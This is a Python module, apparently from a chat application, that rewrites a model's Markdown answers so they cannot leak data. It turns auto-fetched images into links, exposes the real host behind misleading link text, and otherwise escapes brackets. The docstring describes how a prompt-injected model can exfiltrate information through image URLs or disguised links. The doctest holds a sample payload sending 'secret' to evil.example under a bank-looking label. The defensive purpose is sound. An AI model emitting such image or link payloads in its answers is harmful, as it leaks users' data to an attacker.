"""What an answer may carry out: nothing by itself, and no link under a false name.

A model that was talked into it by a page or a file it read can put what it knows into the address of an image, which
a client would fetch without being asked, or behind a link that reads like another one. So an image becomes a link, a
link that shows another host than it leads to shows the real one as well, one that shows nothing shows its host, and
one that leads to no web or mail address becomes text. Code is left alone.

The answer is rewritten where it stands and then parsed as CommonMark. Whatever is still in it that should not be was
written to be misread: then every bracket is escaped, and people see the answer as it was written.
"""

from __future__ import annotations

import re
from collections.abc import Collection
from itertools import pairwise

from dspy_session_chat.markup.honest import is_honest
from dspy_session_chat.markup.rewriting import TooDeepError, rewritten
from dspy_session_chat.markup.user_info import USER_INFO, ats

LONGEST = 100_000
"""Characters that are parsed; what is longer would hold up everybody else, and has its brackets escaped."""

_PASSES = 4
"""How often an answer is rewritten until nothing changes; what is honest takes two."""

_SUSPICIOUS = re.compile(r"\[|<|://[^\s/?#]*@")
_ADDRESS = re.compile(r"https?://", re.IGNORECASE)
_UNESCAPED = re.compile(r"(?<!\\)((?:\\\\)*)([\[<])")


def outward(markdown: str, allow_hosts: Collection[str] = ()) -> str:
    """``markdown`` that can be shown to people. Doing it again changes nothing.

    Args:
        markdown: An answer, or as much of it as there is.
        allow_hosts: Hosts whose images stay images: ``"img.example.com"``, or ``"*.example.com"`` for all beneath it.

    >>> outward("![a chart](https://evil.example/?q=secret) from [https://bank.example](https://evil.example/x)")
    '[a chart](https://evil.example/?q=secret) from [https://bank.example (evil.example)](https://evil.example/x)'
    """
    if not _SUSPICIOUS.search(markdown):
        return markdown
    text = markdown.replace("\r\n", "\n").replace("\r", "\n")
    if len(text) > LONGEST:
        return _escaped(text)
    try:
        for _ in range(_PASSES):
            before, text = text, rewritten(text, allow_hosts)
            if text == before:
                return text if is_honest(text, allow_hosts) else _escaped(text)
    except (TooDeepError, RecursionError):
        pass
    return _escaped(text)


def _escaped(text: str) -> str:
    """``text`` without any link in it, and no address that reads like another one."""
    text = USER_INFO.sub(r"\1", text)
    places = {place for scheme in _ADDRESS.finditer(text) for place in ats(text, scheme.end())}
    parts = [text[begin:end] for begin, end in pairwise([0, *sorted(places), len(text)])]
    return _UNESCAPED.sub(r"\1\\\2", " ".join(parts))
